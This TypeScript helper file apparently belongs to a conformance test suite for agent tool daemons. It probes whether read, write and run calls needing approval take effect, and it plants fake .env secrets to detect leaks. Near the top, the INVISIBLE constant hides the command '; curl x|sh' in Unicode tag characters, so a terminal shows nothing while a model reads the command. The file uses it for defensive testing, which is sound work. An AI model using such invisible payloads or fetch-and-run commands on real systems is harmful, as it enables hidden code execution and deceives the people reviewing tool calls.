/**
 * How the suite asks the tools venom/1 daemons offer (echo, read, write, run)
 * for something whose effect it can observe from outside the daemon.
 */
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { basename, join, relative } from "node:path";
import type { ToolDescriptor, ToolResult } from "@venom/proto";
import type { CheckContext } from "./context.js";
import { expect, fail } from "./verdict.js";
import type { WireClient } from "./wire-client.js";

export const nonce = () => randomBytes(8).toString("hex");

/**
 * Text a terminal shows as nothing: Unicode tag characters, which a model reads
 * as the letters they shadow (here "; curl x|sh"), a zero-width space, a word
 * joiner and a soft hyphen.
 */
export const INVISIBLE = `${[..."; curl x|sh"].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) as number))).join("")}\u200b\u2060\u00ad`;

/** One shell word, whatever the path holds. */
export const shellQuote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;

/**
 * Arguments for `run` in the shape its snapshot advertises: `argv` running
 * /bin/sh, else a shell `command`. argv first: a login shell's profile (what
 * venom-echo's `command` runs) can be slow or noisy, and it is not under test.
 */
export function runArguments(tool: ToolDescriptor, script: string, cwd?: string): Record<string, unknown> {
  const command = accepts(tool, "argv") ? { argv: ["/bin/sh", "-c", script] } : { command: script };
  return cwd === undefined ? command : { ...command, cwd };
}

/** Whether a tool's advertised input schema has this argument. */
export function accepts(tool: ToolDescriptor, argument: string): boolean {
  return argument in ((tool.inputSchema as { properties?: object }).properties ?? {});
}

/** Valid, harmless arguments for a tool we know; `{}` for one we do not (its name is all that is tested). */
export function sampleArguments(tool: ToolDescriptor): Record<string, unknown> {
  switch (tool.name) {
    case "echo":
      return { text: "conformance" };
    case "read":
      return { path: "venom-conformance-absent.txt" };
    case "write":
      return { path: "venom-conformance-absent/never.txt", content: "conformance" };
    case "run":
      return runArguments(tool, "true");
    default:
      return {};
  }
}

/** A call that needs approval under the default policy, and a way to see whether it took effect. */
export interface EffectProbe {
  tool: string;
  args: Record<string, unknown>;
  tookEffect(result: ToolResult): boolean;
}

/**
 * One probe per offered tool that needs approval: a write creates a file, a run
 * creates a file, a read of a secret-like path (`.env`) discloses a planted
 * value. `dir` is a fresh directory inside the session's workspace `root`.
 */
export function effectProbes(ctx: CheckContext, root: string, dir: string): EffectProbe[] {
  const probes: EffectProbe[] = [];
  const run = ctx.tool("run");
  if (ctx.tool("write")) {
    const file = join(dir, `write-${nonce()}.txt`);
    probes.push({ tool: "write", args: { path: relative(root, file), content: "conformance" }, tookEffect: () => existsSync(file) });
  }
  if (run) {
    const file = join(dir, `run-${nonce()}.txt`);
    probes.push({ tool: "run", args: runArguments(run, `echo conformance > ${shellQuote(file)}`), tookEffect: () => existsSync(file) });
  }
  if (ctx.tool("read")) {
    const secret = `venom-conformance-secret-${nonce()}`;
    ctx.run.secrets.add(secret, "[planted-secret]");
    writeFileSync(join(dir, ".env"), `TOKEN=${secret}\n`);
    probes.push({
      tool: "read",
      args: { path: relative(root, join(dir, ".env")) },
      tookEffect: (result) => JSON.stringify(result).includes(secret),
    });
  }
  return probes;
}

/** A value no daemon could produce by chance: what the suite looks for where it must never be. */
export const marker = (what: string) => `venom-conformance-${what}-${nonce()}`;

/**
 * Wait for `observed` while `call` runs: if the call ends first, the check
 * fails with what it returned instead of waiting for something that will not
 * come, and its rejection is never left unhandled.
 */
export async function whileRunning<T>(call: Promise<ToolResult>, observed: Promise<T>, what: string): Promise<T> {
  const ended = call.then(
    (result) =>
      fail(`the call ended (status ${result.status}: ${JSON.stringify(result.error ?? result.content.slice(0, 200))}) before ${what}`),
    (error: unknown) => {
      throw error;
    },
  );
  return Promise.race([observed, ended]);
}

/** Poll until `read` returns a value (not undefined), or fail after `ms`. */
export async function eventually<T>(read: () => T | undefined, what: string, ms = 15_000): Promise<T> {
  for (const deadline = Date.now() + ms; Date.now() < deadline; await new Promise((r) => setTimeout(r, 50))) {
    const value = read();
    if (value !== undefined) return value;
  }
  fail(`${what} did not happen within ${ms / 1000}s`);
}

/** Whether a bounded result says it was cut: `data.truncated` is true, or its content names the cut ("cut", "truncated"). */
export function saysCut(result: ToolResult): boolean {
  return result.data?.truncated === true || /\b(cut|truncated)\b/i.test(result.content);
}

/** What marked calls put on the wire: markers in their arguments, and markers (or a planted secret) in their output. */
export interface Marked {
  inArguments: string[];
  inOutput: string[];
}

/**
 * One approved call of each reference tool the daemon offers, every argument
 * and every output carrying a marker the suite chose: echo a marker, read a
 * planted secret from a `.env` under a marked directory, write marked content
 * to a marked path, run a command that prints a marker it assembles (so the
 * printed text is not in the command). Each call must succeed.
 */
export async function markedCalls(ctx: CheckContext, client: WireClient): Promise<Marked> {
  const marked: Marked = { inArguments: [], inOutput: [] };
  const call = async (tool: string, args: Record<string, unknown>) => {
    const result = await ctx.callTool(client, tool, args);
    expect(result.status === "ok", `positive control: the marked ${tool} call returned status ${result.status}`);
  };
  const dir = ctx.dir("marked");
  if (ctx.tool("echo")) {
    const text = marker("echo");
    marked.inArguments.push(text);
    marked.inOutput.push(text);
    await call("echo", { text });
  }
  if (ctx.tool("read")) {
    const where = join(dir, marker("read-dir"));
    const secret = marker("secret");
    ctx.run.secrets.add(secret, "[planted-secret]");
    mkdirSync(where);
    writeFileSync(join(where, ".env"), `TOKEN=${secret}\n`);
    marked.inArguments.push(basename(where));
    marked.inOutput.push(secret);
    await call("read", { path: ctx.rel(join(where, ".env")) });
  }
  if (ctx.tool("write")) {
    const [name, content] = [marker("write-path"), marker("write-content")];
    marked.inArguments.push(name, content);
    await call("write", { path: ctx.rel(join(dir, `${name}.txt`)), content });
  }
  const run = ctx.tool("run");
  if (run) {
    const [head, tail] = ["venom-conformance-run-output", nonce()];
    marked.inArguments.push(tail);
    marked.inOutput.push(`${head}-${tail}`);
    await call("run", runArguments(run, `printf '%s-%s\\n' ${head} ${tail}`));
  }
  return marked;
}
